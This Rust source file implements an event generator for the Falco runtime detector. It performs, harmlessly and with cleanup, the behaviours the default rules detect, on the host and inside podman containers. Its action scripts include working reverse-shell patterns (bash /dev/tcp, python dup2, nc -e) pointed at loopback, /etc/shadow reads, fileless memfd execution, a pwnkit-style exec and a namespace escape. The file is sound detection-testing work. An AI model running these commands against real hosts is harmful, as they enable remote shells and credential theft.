//! `falco-wasm event-generator`: performs, for real and harmlessly, what the
//! default rules detect — on the host, and inside podman containers — and
//! cleans up after itself.
//!
//! ```text
//! falco-wasm event-generator list            # actions and the rule each targets
//! falco-wasm event-generator run ACTION...   # some actions
//! falco-wasm event-generator run --all       # every action
//! ```
//!
//! Each action is a shell script run with `sh -c` (python3 for syscalls that
//! have no command-line tool); the scratch directory is `$FWGEN` (created
//! and removed around each action). Container actions run in a throwaway
//! `localhost/busybox:fwgen-*` image built from the host's busybox.

use std::path::Path;
use std::process::{Command, ExitCode, Stdio};

/// Where an action runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Place {
    /// On the host.
    Host,
    /// In a podman container.
    Container {
        /// Run the container privileged.
        privileged: bool,
        /// Give it a terminal (`podman run -t`).
        tty: bool,
        /// A host path mounted read-only (`-v SRC:/host-mount:ro`).
        mount: Option<&'static str>,
    },
}

/// One action.
#[derive(Clone, Copy, Debug)]
pub struct Action {
    /// Its name.
    pub name: &'static str,
    /// The default rule it makes fire.
    pub rule: &'static str,
    /// Where it runs.
    pub place: Place,
    /// What it does (sh script; `$FWGEN` is a scratch directory).
    pub script: &'static str,
}

/// Every action. Scripts only touch `$FWGEN`, or create and remove a
/// uniquely named file where the rule needs a sensitive location.
pub const ACTIONS: &[Action] = &[
    Action {
        name: "read-shadow",
        rule: "Read sensitive file untrusted",
        place: Place::Host,
        script: "/usr/bin/python3 -c \"open('/etc/shadow').read()\"",
    },
    Action {
        name: "clear-log",
        rule: "Clear Log Activities",
        place: Place::Host,
        script: "f=/var/log/fwgen-$$.log; echo x > $f; : > $f; rm -f $f",
    },
    Action {
        // no O_TRUNC: ftruncate(2) (the truncate tool) and truncate(2) by path
        name: "truncate-log",
        rule: "Clear Log Activities",
        place: Place::Host,
        script: "f=/var/log/fwgen-$$.log; echo x >> $f; truncate -s 0 $f; echo x >> $f; \
                 python3 -c 'import os, sys; os.truncate(sys.argv[1], 0)' $f; rm -f $f",
    },
    Action {
        name: "search-private-keys",
        rule: "Search Private Keys or Passwords",
        place: Place::Host,
        script: "grep -r -- '-----BEGIN RSA PRIVATE KEY' $FWGEN >/dev/null; true",
    },
    Action {
        name: "find-aws-credentials",
        rule: "Find AWS Credentials",
        place: Place::Host,
        script: "grep -r aws_secret_access_key $FWGEN >/dev/null; true",
    },
    Action {
        name: "remove-bulk-data",
        rule: "Remove Bulk Data from Disk",
        place: Place::Host,
        script: "echo x > $FWGEN/data; shred -u $FWGEN/data",
    },
    Action {
        name: "exec-from-dev-shm",
        rule: "Execution from /dev/shm",
        place: Place::Host,
        script: "f=/dev/shm/fwgen-$$; cp /bin/true $f; $f; rm -f $f",
    },
    Action {
        name: "fileless-memfd",
        rule: "Fileless execution via memfd_create",
        place: Place::Host,
        script: "/usr/bin/python3 -c \"import os; fd = os.memfd_create('fwgen'); os.write(fd, open('/bin/true', 'rb').read()); pid = os.fork()\nif pid == 0: os.execv('/proc/self/fd/%d' % fd, ['fwgen'])\nos.waitpid(pid, 0)\"",
    },
    Action {
        name: "symlink-sensitive",
        rule: "Create Symlink Over Sensitive Files",
        place: Place::Host,
        script: "ln -s /etc/shadow $FWGEN/shadow-link",
    },
    Action {
        name: "hardlink-sensitive",
        rule: "Create Hardlink Over Sensitive Files",
        place: Place::Host,
        script: "d=/var/tmp/fwgen-$$; mkdir -p $d; ln /etc/shadow $d/hl; rm -rf $d",
    },
    Action {
        name: "kernel-module",
        rule: "Linux Kernel Module Injection Detected",
        place: Place::Host,
        script: "/usr/bin/python3 -c \"import ctypes; ctypes.CDLL(None, use_errno=True).syscall(175, b'x' * 16, 16, b'')\"",
    },
    Action {
        name: "ptrace-attach",
        rule: "PTRACE attached to process",
        place: Place::Host,
        script: "sleep 5 & p=$!; /usr/bin/python3 -c \"import ctypes, os, sys; l = ctypes.CDLL(None); pid = int(sys.argv[1]); l.ptrace(16, pid, 0, 0); os.waitpid(pid, 0); l.ptrace(17, pid, 0, 0)\" $p; kill $p",
    },
    Action {
        name: "ptrace-anti-debug",
        rule: "PTRACE anti-debug attempt",
        place: Place::Host,
        script: "/usr/bin/python3 -c \"import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)\"",
    },
    Action {
        name: "cron-job",
        rule: "Schedule Cron Jobs",
        place: Place::Host,
        script: "f=/etc/cron.d/fwgen-$$; echo '# fwgen' > $f; rm -f $f",
    },
    Action {
        name: "shell-config",
        rule: "Modify Shell Configuration File",
        place: Place::Host,
        script: "echo '# fwgen' >> $FWGEN/.bashrc",
    },
    Action {
        name: "delete-history",
        rule: "Delete or rename shell history",
        place: Place::Host,
        script: "echo ls > $FWGEN/.bash_history; rm $FWGEN/.bash_history",
    },
    Action {
        name: "write-below-etc",
        rule: "Write below etc",
        place: Place::Host,
        script: "f=/etc/fwgen-$$; echo x > $f; rm -f $f",
    },
    Action {
        name: "write-below-binary-dir",
        rule: "Write below binary dir",
        place: Place::Host,
        script: "f=/usr/bin/fwgen-$$; echo x > $f; rm -f $f",
    },
    Action {
        name: "write-below-root",
        rule: "Write below root",
        place: Place::Host,
        script: "f=/fwgen-$$; echo x > $f; rm -f $f",
    },
    Action {
        // the same file through a process's root (/proc/PID/root is how a
        // process in a container sharing the host's pids reaches the
        // host's files; its own root here)
        name: "read-shadow-via-proc-root",
        rule: "Read sensitive file untrusted",
        place: Place::Host,
        script: "/usr/bin/python3 -c \"open('/proc/self/root/etc/shadow').read()\"",
    },
    Action {
        name: "directory-traversal",
        rule: "Directory traversal monitored file read",
        place: Place::Host,
        script: "cd $FWGEN && /usr/bin/python3 -c \"open('../../etc/shadow').read()\"",
    },
    Action {
        name: "run-shell-untrusted",
        rule: "Run shell untrusted",
        place: Place::Host,
        script: "cp /usr/bin/python3 $FWGEN/nginx; $FWGEN/nginx -c \"import subprocess; subprocess.run(['sh', '-c', 'true'])\"",
    },
    Action {
        name: "container-shell",
        rule: "Terminal shell in container",
        place: Place::Container {
            privileged: false,
            tty: true,
            mount: None,
        },
        script: "/bin/sh -c true",
    },
    Action {
        name: "privileged-container",
        rule: "Launch Privileged Container",
        place: Place::Container {
            privileged: true,
            tty: false,
            mount: None,
        },
        script: "true",
    },
    Action {
        name: "container-network-tool",
        rule: "Launch Suspicious Network Tool in Container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: None,
        },
        // Applets by path: busybox sh would otherwise run them through
        // /proc/self/exe, and their name would be `exe`. `tcpdump` is a
        // busybox link in the image ("applet not found": the exec is what
        // the rule sees).
        script: "/bin/tcpdump --version 2>/dev/null; true",
    },
    Action {
        name: "container-drop-exec",
        rule: "Drop and execute new binary in container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: None,
        },
        script: "cp /bin/busybox /tmp/fwgen-dropped && /tmp/fwgen-dropped true",
    },
    Action {
        name: "container-packet-socket",
        rule: "Packet socket created in container",
        place: Place::Container {
            privileged: true,
            tty: false,
            mount: None,
        },
        script: "/bin/arping -c 1 -w 1 -I lo 127.0.0.1 >/dev/null 2>&1; true",
    },
    Action {
        name: "read-ssh-keys",
        rule: "Read ssh information",
        place: Place::Host,
        script: "mkdir -p $FWGEN/.ssh && echo key > $FWGEN/.ssh/id_fwgen && /usr/bin/python3 -c \"import os; open(os.environ['FWGEN'] + '/.ssh/id_fwgen').read()\"",
    },
    Action {
        name: "read-cloud-credentials",
        rule: "Credential file read by a file tool",
        place: Place::Host,
        script: "mkdir -p $FWGEN/.aws && printf '[fwgen]\\nregion = none\\n' >> $FWGEN/.aws/credentials \
                 && cat $FWGEN/.aws/credentials > /dev/null",
    },
    Action {
        // 60 closed loopback ports, each refused at once
        name: "port-scan",
        rule: "Port scan by a process",
        place: Place::Host,
        script: "/usr/bin/python3 -c \"import socket; [socket.socket().connect_ex(('127.0.0.1', p)) for p in range(47000, 47060)]\"",
    },
    Action {
        // a unit file that is never enabled, removed at once
        name: "systemd-unit",
        rule: "Systemd unit written",
        place: Place::Host,
        script: "mkdir -p /etc/systemd/system && f=/etc/systemd/system/fwgen-$$.service \
                 && echo '[Unit]' > $f && rm -f $f",
    },
    Action {
        // a scratch copy of true, made setuid and removed
        name: "setuid-bit",
        rule: "Set Setuid or Setgid bit",
        place: Place::Host,
        script: "cp /bin/true $FWGEN/fwgen-suid && chmod u+s $FWGEN/fwgen-suid && rm -f $FWGEN/fwgen-suid",
    },
    Action {
        // a pool URL on a command line; nothing is mined or contacted
        name: "stratum-miner",
        rule: "Detect crypto miners using the Stratum protocol",
        place: Place::Host,
        script: "/bin/echo -o stratum+tcp://pool.invalid:3333 > /dev/null",
    },
    Action {
        // busybox's nc as `nc`, to a closed loopback port: it never connects
        name: "netcat-exec-host",
        rule: "Netcat or Socat Remote Code Execution on Host",
        place: Place::Host,
        script: "ln -sf /bin/busybox $FWGEN/nc && $FWGEN/nc -w 1 -e /bin/true 127.0.0.1 9 || true",
    },
    Action {
        // bash moves a loopback connection onto its stdin, then stdout (the
        // redirections of `bash -i >& /dev/tcp/H/P 0>&1`); a busybox nc
        // listener that sends nothing is the other end
        name: "reverse-shell-bash-host",
        rule: "Reverse Shell on Host",
        place: Place::Host,
        script: "(/bin/busybox nc -l -p 9996 -w 3 </dev/null >/dev/null 2>&1 &) ; sleep 0.3; \
                 timeout 5 /bin/bash -c 'exec 0<>/dev/tcp/127.0.0.1/9996 1>&0 2>&0; exit 0' || true",
    },
    Action {
        // python dup2()s a loopback connection onto its stdio and starts a
        // shell there (both raise the rule: python's dup2, the shell's start)
        name: "reverse-shell-python-host",
        rule: "Reverse Shell on Host",
        place: Place::Host,
        script: "(/bin/busybox nc -l -p 9997 -w 3 </dev/null >/dev/null 2>&1 &) ; sleep 0.3; \
                 timeout 5 python3 -c 'import os,socket,subprocess; \
                 s=socket.create_connection((\"127.0.0.1\",9997)); \
                 [os.dup2(s.fileno(),f) for f in (0,1,2)]; \
                 subprocess.call([\"/bin/sh\",\"-c\",\"exit 0\"])' || true",
    },
    Action {
        // a copy of true named pkexec, started by uid 1 (daemon) with an
        // empty argument list (execve with argv = {NULL}, through ctypes:
        // Python's own exec refuses an empty argv)
        name: "pwnkit",
        rule: "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        place: Place::Host,
        script: "cp /bin/true $FWGEN/pkexec && chmod 755 $FWGEN $FWGEN/pkexec && \
                 setpriv --reuid=1 --regid=1 --clear-groups /usr/bin/python3 -c \
                 \"import ctypes; a = (ctypes.c_char_p * 1)(); \
                 ctypes.CDLL(None).execve(b'$FWGEN/pkexec', a, a)\"",
    },
    Action {
        // a key line in a scratch home's authorized_keys (not a real account's)
        name: "authorized-keys",
        rule: "SSH authorized keys modified",
        place: Place::Host,
        script: "mkdir -p $FWGEN/.ssh && echo 'ssh-ed25519 AAAAfwgen fwgen' >> $FWGEN/.ssh/authorized_keys",
    },
    Action {
        // an empty line list: opened for appending nothing, removed again
        // unless it was there before
        name: "ld-preload",
        rule: "Write to ld.so.preload",
        place: Place::Host,
        script: "f=/etc/ld.so.preload; if [ -e $f ]; then : >> $f; else : >> $f; rm -f $f; fi",
    },
    Action {
        name: "server-reads-shadow-late",
        rule: "Read sensitive file trusted after startup",
        place: Place::Host,
        // A program named like a web server reads /etc/shadow after 5 s of life.
        script: "cp /usr/bin/python3 $FWGEN/nginx && $FWGEN/nginx -c \"import time; time.sleep(5.5); open('/etc/shadow').read()\"",
    },
    Action {
        name: "system-user-terminal",
        rule: "System user interactive",
        place: Place::Host,
        // `script` gives a terminal; uid 1 is the `daemon` system account.
        script: "script -qc 'setpriv --reuid=1 --regid=1 --clear-groups /bin/true' /dev/null",
    },
    Action {
        name: "ssh-non-standard-port",
        rule: "Disallowed SSH Connection Non Standard Port",
        place: Place::Host,
        // 192.0.2.0/24 is TEST-NET-1: nothing answers; the connect attempt is the event.
        script: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 2222 fwgen@192.0.2.79 true 2>/dev/null; true",
    },
    Action {
        name: "c2-connect",
        rule: "Outbound Connection to C2 Servers",
        place: Place::Host,
        // Fires when 192.0.2.77 is in c2_server_ip_list (empty by default:
        // the list is the operator's; the end-to-end test appends it).
        script: "/usr/bin/python3 -c \"import socket; s = socket.socket(); s.setblocking(False); s.connect_ex(('192.0.2.77', 443))\"",
    },
    Action {
        name: "container-k8s-api",
        rule: "Contact K8S API Server From Container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: None,
        },
        // Fires when 127.0.0.1 is in k8s_api_server_ips (empty by default:
        // the operator lists the API server's addresses; the end-to-end test
        // appends this one). A listener in the container plays the API server.
        script: "(/bin/nc -l -p 6443 >/dev/null &) ; sleep 0.3; echo | /bin/nc 127.0.0.1 6443; true",
    },
    Action {
        name: "container-netcat-exec",
        rule: "Netcat Remote Code Execution in Container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: None,
        },
        script: "/bin/nc 127.0.0.1 9 -e /bin/true 2>/dev/null; true",
    },
    Action {
        name: "container-stdio-socket",
        rule: "Redirect STDOUT/STDIN to Network Connection in Container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: None,
        },
        // A listener and a client that both hand the connection to a program as its stdio.
        script: "(/bin/nc -l -p 9999 -e /bin/true &) ; sleep 0.3; /bin/nc 127.0.0.1 9999 -e /bin/true; true",
    },
    Action {
        // a connection to a docker API socket: a stand-in the client serves
        // itself in the container (no runtime is reached)
        name: "container-runtime-socket",
        rule: "Container Runtime Socket Contacted From Container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: None,
        },
        script: "/bin/unix-connect -l /tmp/docker.sock",
    },
    Action {
        name: "container-sensitive-mount",
        rule: "Launch Sensitive Mount Container",
        place: Place::Container {
            privileged: false,
            tty: false,
            mount: Some("/etc"),
        },
        script: "true",
    },
    Action {
        name: "container-release-agent",
        rule: "Detect release_agent File Container Escapes",
        place: Place::Container {
            privileged: true,
            tty: false,
            mount: None,
        },
        // Only the file name matters to the rule: a file in /tmp, not the cgroup's.
        script: "echo x > /tmp/release_agent",
    },
    Action {
        name: "container-debugfs",
        rule: "Debugfs Launched in Privileged Container",
        place: Place::Container {
            privileged: true,
            tty: false,
            mount: None,
        },
        // `debugfs` is a busybox link in the image ("applet not found").
        script: "/bin/debugfs 2>/dev/null; true",
    },
    Action {
        // into the container's own init's mount namespace: the call an
        // escape makes (with the host's PID namespace, pid 1 is the host's)
        name: "container-nsenter",
        rule: "Namespace entered from a container",
        place: Place::Container {
            privileged: true,
            tty: false,
            mount: None,
        },
        script: "nsenter -t 1 -m true",
    },
];

/// Busybox applets linked in the image.
const APPLETS: &[&str] = &[
    "sh", "ls", "cat", "id", "sleep", "cp", "echo", "nc", "arping", "true", "rm", "grep",
    "tcpdump", "debugfs", "nsenter",
];

/// A client of a unix socket (busybox has none): `unix-connect [-l] PATH`
/// connects to PATH and exits; with `-l` it first listens there itself (a
/// stand-in server, so that nothing real is contacted). Compiled into the
/// image as `/bin/unix-connect`.
const UNIX_CONNECT_C: &str = r#"
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    strncpy(a.sun_path, argv[argc - 1], sizeof(a.sun_path) - 1);
    if (argc > 2 && strcmp(argv[1], "-l") == 0) {
        int l = socket(AF_UNIX, SOCK_STREAM, 0);
        unlink(a.sun_path);
        if (bind(l, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(l, 1) != 0) return 3;
    }
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    int r = connect(s, (struct sockaddr *)&a, sizeof(a));
    close(s);
    return r == 0 ? 0 : 1;
}
"#;

/// The image container actions run in; its tag changes with its contents,
/// so an image from an older generator is never reused.
pub fn image() -> String {
    let mut h: u32 = 2166136261;
    for b in APPLETS.concat().bytes().chain(UNIX_CONNECT_C.bytes()) {
        h = (h ^ u32::from(b)).wrapping_mul(16777619);
    }
    format!("localhost/busybox:fwgen-{h:08x}")
}

/// Builds the busybox image from the host's busybox if it is missing.
pub fn ensure_image() -> Result<(), String> {
    let exists = Command::new("podman")
        .args(["image", "exists", &image()])
        .status()
        .map_err(|e| format!("podman cannot run: {e}"))?;
    if exists.success() {
        return Ok(());
    }
    let busybox = ["/bin/busybox", "/usr/bin/busybox"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .ok_or("busybox is not installed (apt-get install busybox-static)")?;
    let dir = std::env::temp_dir().join(format!("fwgen-image-{}", std::process::id()));
    let r = dir.join("R");
    let io = |e: std::io::Error| e.to_string();
    for sub in ["bin", "tmp", "etc", "root"] {
        std::fs::create_dir_all(r.join(sub)).map_err(io)?;
    }
    std::fs::copy(busybox, r.join("bin/busybox")).map_err(io)?;
    for a in APPLETS {
        std::os::unix::fs::symlink("busybox", r.join("bin").join(a)).map_err(io)?;
    }
    compile_unix_connect(&dir, &r.join("bin/unix-connect"))?;
    std::fs::write(r.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n").map_err(io)?;
    std::fs::write(r.join("etc/group"), "root:x:0:\n").map_err(io)?;
    std::fs::write(r.join("etc/shadow"), "root:*:19000:0:99999:7:::\n").map_err(io)?;
    let tar = dir.join("image.tar");
    let ok = Command::new("tar")
        .arg("-C")
        .arg(&r)
        .arg("-cf")
        .arg(&tar)
        .arg(".")
        .status()
        .map_err(io)?
        .success()
        && Command::new("podman")
            .arg("import")
            .arg(&tar)
            .arg(image())
            .stdout(Stdio::null())
            .status()
            .map_err(io)?
            .success();
    let _ = std::fs::remove_dir_all(&dir);
    if ok {
        Ok(())
    } else {
        Err("podman import failed".into())
    }
}

/// Builds [`UNIX_CONNECT_C`], static, at `out`.
fn compile_unix_connect(dir: &Path, out: &Path) -> Result<(), String> {
    let src = dir.join("unix-connect.c");
    std::fs::write(&src, UNIX_CONNECT_C).map_err(|e| e.to_string())?;
    let st = Command::new("cc")
        .args(["-static", "-Os", "-o"])
        .arg(out)
        .arg(&src)
        .status()
        .map_err(|e| format!("cc is needed for the image's unix-connect helper: {e}"))?;
    if st.success() {
        Ok(())
    } else {
        Err(format!("cc could not build the unix-connect helper ({st})"))
    }
}

/// Runs one action; the container (if any) is named `fwgen-NAME-PID`.
pub fn run_action(a: &Action) -> Result<(), String> {
    match a.place {
        Place::Host => {
            let dir = std::env::temp_dir().join(format!("fwgen-{}-{}", a.name, std::process::id()));
            std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
            let st = Command::new("sh")
                .args(["-c", a.script])
                .env("FWGEN", &dir)
                .stdout(Stdio::null())
                .status()
                .map_err(|e| e.to_string());
            let _ = std::fs::remove_dir_all(&dir);
            match st? {
                s if s.success() => Ok(()),
                s => Err(format!("script exited with {s}")),
            }
        }
        Place::Container {
            privileged,
            tty,
            mount,
        } => {
            ensure_image()?;
            let name = format!("fwgen-{}-{}", a.name, std::process::id());
            let mut c = Command::new("podman");
            c.args(["--runtime", "runc", "run", "--rm", "--name", &name]);
            if privileged {
                c.arg("--privileged");
            }
            if tty {
                c.arg("-t");
            }
            if let Some(src) = mount {
                c.args(["-v", &format!("{src}:/host-mount:ro")]);
            }
            // `sleep 1` keeps the container alive while its events are read.
            let script = format!("{}; sleep 1", a.script);
            let st = c
                .args([&image(), "/bin/sh", "-c", &script])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .map_err(|e| e.to_string())?;
            if st.success() {
                Ok(())
            } else {
                Err(format!("podman run exited with {st}"))
            }
        }
    }
}

/// `event-generator list`.
pub fn list() -> ExitCode {
    println!("{:<26} {:<10} rule", "action", "where");
    for a in ACTIONS {
        let place = match a.place {
            Place::Host => "host",
            Place::Container {
                privileged: true, ..
            } => "container+",
            Place::Container { .. } => "container",
        };
        println!("{:<26} {:<10} {}", a.name, place, a.rule);
    }
    ExitCode::SUCCESS
}

/// `event-generator run`.
pub fn run(names: &[String], all: bool) -> ExitCode {
    if names.is_empty() && !all {
        eprintln!("Error: name actions to run, or --all (see `falco-wasm event-generator list`)");
        return ExitCode::FAILURE;
    }
    let mut failed = 0;
    for a in ACTIONS
        .iter()
        .filter(|a| all || names.iter().any(|n| n == a.name))
    {
        match run_action(a) {
            Ok(()) => println!("ran {} ({})", a.name, a.rule),
            Err(e) => {
                failed += 1;
                eprintln!("Error: action {} failed: {e}", a.name);
            }
        }
    }
    for n in names {
        if !ACTIONS.iter().any(|a| a.name == n) {
            eprintln!("Error: no action named '{n}'");
            failed += 1;
        }
    }
    if failed > 0 {
        ExitCode::FAILURE
    } else {
        ExitCode::SUCCESS
    }
}
